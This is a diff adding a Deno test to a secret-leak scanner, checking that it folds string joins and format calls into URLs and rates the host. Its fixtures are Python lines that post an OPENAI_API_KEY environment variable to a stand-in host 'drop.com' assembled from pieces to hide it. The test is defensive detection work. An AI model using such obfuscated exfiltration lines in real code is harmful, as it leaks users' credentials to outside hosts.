@@ -3595,3 +3595,18 @@ Deno.test("what an interpreter's inline code prints is its output: python3 -c, n
     ]
   ) assert.deepEqual(secretSeverities("scripts/a.sh", text), [], text);
 });
+
+Deno.test("a string's join of constants and format of constants are folded: the address they make is judged by its host", () => {
+  const send = (address: string) =>
+    secretSeverities(
+      "scripts/a.py",
+      `import os, requests\nu = ${address}\nrequests.post(u, data=os.environ['OPENAI_API_KEY'])\n`,
+    );
+  assert.deepEqual(send("''.join(['https://', 'drop', '.com/x'])"), ["critical"]);
+  assert.deepEqual(send("'https://{}.{}/x'.format('drop', 'com')"), ["critical"]);
+  assert.deepEqual(send("'https://{1}.{0}/x'.format('com', 'drop')"), ["critical"]);
+  assert.deepEqual(send("'/'.join(('https:', '', 'api.openai.com', 'v1'))"), ["info"]);
+  assert.deepEqual(send("'https://{}/v1'.format('api.openai.com')"), ["info"]);
+  // A piece the user gives leaves the address computed.
+  assert.deepEqual(send("'https://{}/x'.format(os.environ['HOST'])"), ["medium"]);
+});
